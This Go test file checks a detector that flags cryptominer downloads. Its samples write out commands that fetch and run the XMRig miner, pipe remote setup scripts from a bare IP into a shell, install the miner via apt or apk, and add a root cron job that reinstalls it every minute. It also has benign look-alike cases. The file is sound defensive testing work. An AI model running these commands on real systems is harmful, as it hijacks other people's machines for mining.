package download

import (
	"strings"
	"testing"

	"github.com/safepull/safepull/trust"
	"github.com/safepull/safepull/trust/indicator"
	"github.com/safepull/safepull/trust/indicator/indicatortest"
)

func rules(t testing.TB) Rules {
	t.Helper()
	var r Rules
	indicatortest.Decode(t, name, &r)
	return r
}

const release = "https://github.com/xmrig/xmrig/releases/download/v6.21.0/xmrig-6.21.0-linux-static-x64.tar.gz"

func samples() []indicatortest.Sample {
	script, text, config := trust.KindScript, trust.KindText, trust.KindConfig
	return []indicatortest.Sample{
		{Name: "wget-only", Path: "a.sh", Kind: script, Content: "wget -q " + release + "\n", Want: trust.Strong},
		{Name: "curl-tar", Path: "a.sh", Kind: script, Content: "curl -L " + release + " | tar xz\nchmod +x x\n", Want: trust.Strong},
		{Name: "curl-run", Path: "a.sh", Kind: script, Content: "curl -L " + release + " | tar xz\n./xmrig-6.21.0/xmrig -c /x\n", Want: trust.Proof},
		{Name: "python-urllib", Path: "dao.py", Kind: script, Content: "URL = '" + release + "'\ndef main():\n    urllib.request.urlretrieve(URL, '/tmp/a.tgz')\n    tarfile.open('/tmp/a.tgz').extractall('/tmp')\n    subprocess.Popen(['/tmp/a'])\n", Want: trust.Proof},
		{Name: "python-requests", Path: "dao.py", Kind: script, Content: "r = requests.get(\"" + release + "\")\nopen('x','wb').write(r.content)\n", Want: trust.Strong},
		{Name: "python-list", Path: "dao.py", Kind: script, Content: "subprocess.run(['wget', '" + release + "'])\n", Want: trust.Proof},
		{Name: "javascript", Path: "a.js", Kind: script, Content: "https.get('" + release + "', f); spawn('./a')", Want: trust.Proof},
		{Name: "perl", Path: "a.pl", Kind: script, Content: "getstore('" + release + "', 'x'); chmod 0755, 'x';", Want: trust.Strong},
		{Name: "git-clone", Path: "a.sh", Kind: script, Content: "git clone --depth 1 https://github.com/MoneroOcean/xmrig.git && cmake .", Want: trust.Strong},
		{Name: "setup-on-bare-address", Path: "a.sh", Kind: script, Content: "curl -s -L http://203.0.113.7/xmrig_setup/raw/master/setup_c3pool_miner.sh | LC_ALL=en_US.UTF-8 bash -s W", Want: trust.Proof},
		{Name: "asset-elsewhere", Path: "a.sh", Kind: script, Content: "wget http://203.0.113.7/.x/xmrig-6.20.0-linux-x64.tar.gz", Want: trust.Strong},
		{Name: "asset-with-variable", Path: "a.sh", Kind: script, Content: "V=6.21.0; wget http://203.0.113.7/xmrig-${V}-linux-static-x64.tar.gz", Want: trust.Strong},
		{Name: "history", Path: "config:history", Kind: config, Content: "/bin/sh -c wget " + release + " && tar xf x && ./xmrig --version", Want: trust.Strong},
		{Name: "history-add", Path: "config:history", Kind: config, Content: "ADD " + release + " /opt/ # buildkit", Want: trust.Strong},
		{Name: "entrypoint", Path: "config:entrypoint", Kind: config, Content: `["/bin/sh","-c","curl -sL ` + release + ` | tar xz && exec ./xmrig"]`, Want: trust.Proof},
		{Name: "apt", Path: "config:history", Kind: config, Content: "/bin/sh -c apt-get update && apt-get install -y --no-install-recommends tor xmrig", Want: trust.Strong},
		{Name: "apk", Path: "a.sh", Kind: script, Content: "apk add --no-cache \\\n  curl \\\n  xmrig\n", Want: trust.Strong},
		{Name: "cron", Path: "etc/cron.d/x", Kind: text, Content: "* * * * * root wget -qO- http://203.0.113.7/setup_c3pool_miner.sh | sh", Want: trust.Proof},
		{Name: "text", Path: "opt/todo", Kind: text, Content: "wget " + release + " && ./xmrig", Want: trust.Weak, IfRun: trust.Proof},
	}
}

func TestIndicator(t *testing.T) {
	t.Parallel()
	ind, err := New(rules(t))
	if err != nil {
		t.Fatal(err)
	}
	script, text, config := trust.KindScript, trust.KindText, trust.KindConfig
	indicatortest.Run(t, ind, samples(), []indicatortest.Twin{
		{Name: "article", Path: "srv/article.html", Kind: text, Content: "Attackers ran <code>curl -L " + release + " | tar xz; ./xmrig</code>."},
		{Name: "package-list", Path: "var/lib/apt/lists/x_Packages", Kind: text, Content: "Package: xmrig\nHomepage: https://github.com/xmrig/xmrig\nFilename: pool/x/xmrig_6.20.0.deb\n"},
		{Name: "dependabot", Path: "x/.github/dependabot.yml", Kind: text, Content: "ignore:\n - dependency-name: github.com/ethereum-mining/ethminer\n"},
		{Name: "link-in-script", Path: "a.py", Kind: script, Content: "# see https://github.com/xmrig/xmrig for what attackers use\nSIGNATURES = ['xmrig', 'minerd']\n"},
		{Name: "other-repository", Path: "a.sh", Kind: script, Content: "git clone https://github.com/xmrig/xmrig-docs-theme; curl https://github.com/pooler/cpuminer-web/x"},
		{Name: "other-asset", Path: "a.sh", Kind: script, Content: "wget http://x.invalid/notxmrig-6.1.tar.gz http://x/xmrig-dashboard.css"},
		{Name: "homebrew-formula", Path: "Formula/xmrig.rb", Kind: script, Content: "class Xmrig < Formula\n  url \"https://github.com/xmrig/xmrig/archive/v6.tar.gz\"\n  def install\n    system \"cmake\"\n"},
		{Name: "kill-script", Path: "clean.sh", Kind: script, Content: "pkill xmrig; apt-get remove xmrig cpuminer; killall minerd\n"},
		{Name: "install-other", Path: "config:history", Kind: config, Content: "apt-get install -y curl tor proxychains4 python3; echo xmrig"},
		{Name: "named-alike", Path: "a.sh", Kind: script, Content: "pip install xmrig-exporter; apt-get install libcpuminer-dev\n"},
		{Name: "changelog", Path: "usr/share/doc/x/changelog", Kind: text, Content: "wget " + release},
	})
}

func TestNewRefuses(t *testing.T) {
	t.Parallel()
	for name, change := range map[string]func(*Rules){
		"nothing":  func(r *Rules) { *r = Rules{} },
		"short":    func(r *Rules) { r.Setups = []string{"x.sh"} },
		"pattern":  func(r *Rules) { r.Fetch = []string{"("} },
		"no-fetch": func(r *Rules) { r.Fetch = nil },
	} {
		r := rules(t)
		change(&r)
		if _, err := New(r); err == nil {
			t.Errorf("%s: accepted", name)
		}
	}
}

func FuzzHit(f *testing.F) {
	ind, err := New(rules(f))
	if err != nil {
		f.Fatal(err)
	}
	for _, s := range samples() {
		f.Add([]byte(s.Content))
	}
	f.Fuzz(func(_ *testing.T, in []byte) {
		indicatortest.Inspect(ind, indicator.File{Path: "x.sh", Kind: trust.KindScript}, in, indicatortest.Drive{})
	})
}

func TestUnread(t *testing.T) {
	t.Parallel()
	ind, err := New(rules(t))
	if err != nil {
		t.Fatal(err)
	}
	for name, tc := range map[string]struct {
		content string
		want    bool
	}{
		"bait": {strings.Repeat("# github.com/xmrig/xmrig\n", 3000), true},
	} {
		file := indicator.File{Path: "run.sh", Kind: trust.KindScript}
		if got := indicatortest.Unread(ind, file, []byte(tc.content), indicatortest.Drive{}); (got != "") != tc.want {
			t.Errorf("%s: unread: %q", name, got)
		}
	}
}
